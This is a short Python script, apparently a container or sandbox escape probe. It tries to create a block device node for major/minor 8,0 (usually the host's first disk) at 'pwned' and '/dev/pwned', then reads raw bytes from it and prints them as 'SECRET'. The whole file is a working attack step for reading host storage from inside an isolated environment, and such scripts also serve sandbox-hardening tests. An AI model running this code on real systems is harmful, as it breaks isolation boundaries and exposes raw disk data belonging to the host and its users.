# A device of its own.
import os, stat
for path in ("pwned", "/dev/pwned"):
    try: os.mknod(path, 0o666 | stat.S_IFBLK, os.makedev(8, 0)); print("SECRET", open(path, "rb").read(10))
    except OSError as error: print(error)
